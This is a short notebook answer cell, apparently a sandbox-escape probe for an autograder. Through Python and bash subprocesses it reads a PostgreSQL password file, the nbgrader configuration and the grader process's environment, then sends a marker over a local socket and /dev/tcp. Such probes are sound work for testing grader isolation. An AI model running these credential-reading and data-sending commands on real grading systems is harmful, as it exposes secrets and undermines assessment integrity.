# Starts other programs that read and connect: shell, Python, a compiler's leftovers.

# %% answer="level"
import subprocess
import sys

script = f"""
import socket, os
for path in ({HOME + '/.pgpass'!r}, {COURSE + '/nbgrader_config.py'!r}, '/proc/{GRADER}/environ'):
    try: print(open(path, 'rb').read())
    except OSError as error: print(error)
with socket.socket() as s: s.settimeout(2); s.connect(('127.0.0.1', {PORT})); s.send({MARK.encode()!r})
"""
print(subprocess.run([sys.executable, "-c", script], capture_output=True, text=True))
command = f"cat {HOME}/.pgpass; cat {COURSE}/nbgrader_config.py; cat /proc/{GRADER}/environ; exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo {MARK} >&3"
print(subprocess.run(["bash", "-c", command], capture_output=True))
level = None
